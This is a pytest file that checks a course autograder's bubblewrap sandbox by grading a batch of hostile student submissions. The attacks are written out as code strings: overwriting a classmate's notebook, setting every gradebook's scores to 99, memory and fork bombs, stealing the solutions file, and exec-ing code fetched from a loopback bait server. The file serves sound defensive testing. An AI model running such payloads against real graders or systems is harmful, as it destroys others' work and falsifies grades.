"""Hostile submissions, graded in one batch through the real ``mlops-course grade``.

Each attack below tries to do harm or to get task 1's points without solving it. With the
sandbox in force every attack fails: good students keep full marks, the instructor's
submissions folder is unchanged byte for byte, nothing a submission started is left running,
and every bad row says why it lost points.

The network attacks probe a server on this machine's loopback (outside the sandbox): the
sandbox has only a loopback of its own, so they must not reach it. No probe of a non-loopback
address is sent, because nothing here may send traffic off this machine; with no interface but
``lo`` in the sandbox (the last attack checks it) there is no route to one anyway.
"""
from __future__ import annotations

import hashlib
import os
import socket
import threading
import uuid
from pathlib import Path

import psutil
import pytest

from mlops_course.grade import grade
from mlops_course.grading.sandbox import bwrap
from submissions import reference_answers, solution, with_answers, write_submission

ROOT = Path(__file__).resolve().parents[1]
LAB = "lab00_lifecycle"
TASK = "task1_time_split"
TEST = "test_task1_time_split"

pytestmark = pytest.mark.skipif(bwrap() is None and not os.environ.get("CI"),
                                reason="bubblewrap is not installed (apt install bubblewrap); CI installs it")


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


class _Bait:
    """A loopback server outside the sandbox that hands out the answer to whoever connects."""

    def __init__(self, answer: str) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.answer = answer.encode()
        self.server.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            with connection:
                connection.sendall(self.answer)

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.server.close()


def _attacks(submissions: Path, out: Path, token: str, port: int) -> dict[str, str]:
    """Each hostile student's task-1 answer. Any attack that worked would earn task 1's points."""
    answer = reference_answers(LAB)[TASK]
    victim = submissions / "zz_good_after" / f"{LAB}.ipynb"
    return {
        "saboteur": f'''
import glob, os, sqlite3, subprocess, sys
from pathlib import Path
# (1) destroy another student's notebook in the instructor's folder
Path(r"{victim}").write_text("{{}}")
''' + f'''
# (2) give everyone full marks in every gradebook it can find, walking up from here
for database in glob.glob(r"{out}/**/gradebook.db", recursive=True) + glob.glob("../../../../**/gradebook.db", recursive=True):
    sqlite3.connect(database).execute("UPDATE grade SET auto_score = 99")
# (3) leave a detached process behind
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "{token}"], start_new_session=True)
''',
        "memory_bomb": "chunks = []\nwhile True:\n    chunks.append(b'x' * (64 << 20))\n",
        "fork_bomb_detached": f'''
import os, subprocess, sys, time
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "{token}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "{token}"])
    os._exit(0)
time.sleep(0.5)
''' + answer,
        "kernel_exits": "import os\nos._exit(1)\n",
        "reads_solutions": f'''
import json
source = json.load(open(r"{ROOT / 'solutions' / LAB / f'{LAB}.ipynb'}"))
cell = next(c for c in source["cells"] if c["metadata"].get("nbgrader", {{}}).get("grade_id") == "{TASK}")
exec("".join(cell["source"]))
''',
        "network_escape": f'''
import socket
code = socket.create_connection(("127.0.0.1", {port}), timeout=3).recv(100000).decode()
exec(code)
''',
        "network_interfaces": f'''
import socket
names = [name for _, name in socket.if_nameindex()]
if names != ["lo"]:
{chr(10).join("    " + line for line in answer.splitlines())}
''',
    }


def test_hostile_batch_cannot_hurt_anyone(tmp_path: Path) -> None:
    assert bwrap() is not None, "bubblewrap must run in CI: .ci/run installs it (apt install bubblewrap)"
    submissions, out = tmp_path / "submissions", tmp_path / "grades"
    token = uuid.uuid4().hex
    bait = _Bait(reference_answers(LAB)[TASK])
    try:
        write_submission(submissions, "aa_good_before", LAB, solution(LAB))
        write_submission(submissions, "zz_good_after", LAB, solution(LAB))
        for name, code in _attacks(submissions, out, token, bait.port).items():
            write_submission(submissions, name, LAB, with_answers(LAB, {TASK: code}))
        before = _digest(submissions)
        rows = {row.student: row for row in grade(LAB, submissions, out, ROOT, cell_timeout=60, workers=2,
                                                  memory_mib=1024, progress=lambda _: None)}
    finally:
        bait.close()

    assert _digest(submissions) == before, "grading changed the instructor's submissions folder"
    for good in ("aa_good_before", "zz_good_after"):
        assert rows[good].score == rows[good].max_score, f"{good} lost points: {rows[good].notes}"
        assert (out / "feedback" / good / f"{LAB}.html").is_file(), f"{good} got no feedback"
    leaked = [p.pid for p in psutil.process_iter(["cmdline"]) if token in " ".join(p.info["cmdline"] or [])]
    assert not leaked, f"processes started by submissions are still running: {leaked}"
    assert bait.connections == 0, "a submission reached a server outside its sandbox"

    expected_reason = {
        "saboteur": "failed",
        "memory_bomb": "over the memory cap",
        "fork_bomb_detached": "",
        "kernel_exits": f"the kernel died while running cell {TASK}",
        "reads_solutions": "failed",
        "network_escape": "failed",
        "network_interfaces": "failed",
    }
    for name, reason in expected_reason.items():
        row = rows[name]
        notes = "; ".join(row.notes)
        if name == "fork_bomb_detached":  # a correct answer that also leaves processes: full marks, none left
            assert row.score == row.max_score, f"{name}: {notes}"
            continue
        assert row.tests.get(TEST) == 0, f"{name} got task 1's points: the attack worked ({notes})"
        assert reason in notes and notes, f"{name}: the notes do not say why ({notes!r})"
        if name in ("memory_bomb", "kernel_exits"):  # nothing after a dead kernel runs, as in JupyterLab
            assert "kernel is not running any more" in notes, f"{name}: later tests must say why they failed: {notes}"
        else:
            assert row.score == row.max_score - 2, f"{name}: only task 1 may lose points: {notes}"
